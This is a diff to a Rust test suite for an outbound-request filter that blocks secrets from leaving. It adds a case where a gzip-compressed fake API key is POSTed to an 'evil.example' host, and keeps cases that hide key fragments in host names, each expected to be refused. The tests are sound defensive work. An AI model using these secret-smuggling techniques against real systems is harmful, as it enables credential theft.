@@ -6,9 +6,12 @@ mod support;
 
 use std::sync::Arc;
 
+use async_compression::tokio::bufread::GzipEncoder;
+use distri_core::alarm::Watch;
 use distri_core::release::Release;
 use distri_egress::{Egress, EgressConfig, EgressLimits, Request};
 use support::{Age, Authority, Server, answer, get, release};
+use tokio::io::AsyncReadExt as _;
 
 const KEY: &str = "sk_live_51H/abc+DEF=";
 const BASE64: &str = "c2tfbGl2ZV81MUgvYWJjK0RFRj0=";
@@ -27,7 +30,7 @@ fn request(url: &str, headers: &[(&str, &str)], body: &str) -> Request {
 
 /// The rule that refuses `request` for a run with `release`; nothing is dialled when one does.
 async fn rule(release: Release, request: Request) -> &'static str {
-    Egress::new(EgressConfig::default(), Arc::new(release))
+    Egress::new(EgressConfig::default(), Arc::new(release), Arc::new(Watch::none()))
         .unwrap()
         .send(request)
         .await
@@ -144,6 +147,7 @@ async fn scheme_port_method_and_path_are_part_of_the_place() {
         let egress = Egress::new(
             EgressConfig::default(),
             Arc::new(release(&[("A_KEY", KEY.as_bytes(), hosts)])),
+            Arc::new(Watch::none()),
         )
         .unwrap();
         let error = egress.send(request(url, auth, "")).await.unwrap_err();
@@ -158,7 +162,12 @@ async fn a_value_in_the_host_name_is_found_and_not_shown() {
         "https://sk-live-51habcdef.evil.example/",
         "https://sk-live.-51ha.bcdef.evil.example/",
     ] {
-        let egress = Egress::new(EgressConfig::default(), Arc::new(release(bound))).unwrap();
+        let egress = Egress::new(
+            EgressConfig::default(),
+            Arc::new(release(bound)),
+            Arc::new(Watch::none()),
+        )
+        .unwrap();
         let error = egress.send(get(url)).await.unwrap_err();
         assert_eq!(error.rule(), "outside-hosts");
         assert!(!error.to_string().contains("51ha"), "{error}");
@@ -221,7 +230,7 @@ async fn an_unbound_value_goes_anywhere_but_into_the_clear() {
 }
 
 #[tokio::test]
-async fn a_compressed_body_goes_only_where_every_secret_may_go() {
+async fn a_compressed_body_is_looked_into_and_refused_where_nobody_can() {
     let gzip = &[("content-encoding", "gzip")];
     assert_eq!(
         rule(stripe(), request("https://127.0.0.1/", gzip, "\u{1f}")).await,
@@ -231,6 +240,12 @@ async fn a_compressed_body_goes_only_where_every_secret_may_go() {
         rule(release(&[]), request("https://127.0.0.1/", gzip, "\u{1f}")).await,
         "special-address"
     );
+    let mut encoder = GzipEncoder::new(KEY.as_bytes());
+    let mut packed = Vec::new();
+    encoder.read_to_end(&mut packed).await.unwrap();
+    let headers = vec![("content-encoding".to_owned(), "gzip".to_owned())];
+    let packed = Request::parse("POST", "https://evil.example/", headers, packed).unwrap();
+    assert_eq!(rule(stripe(), packed).await, "outside-hosts");
 }
 
 #[tokio::test]
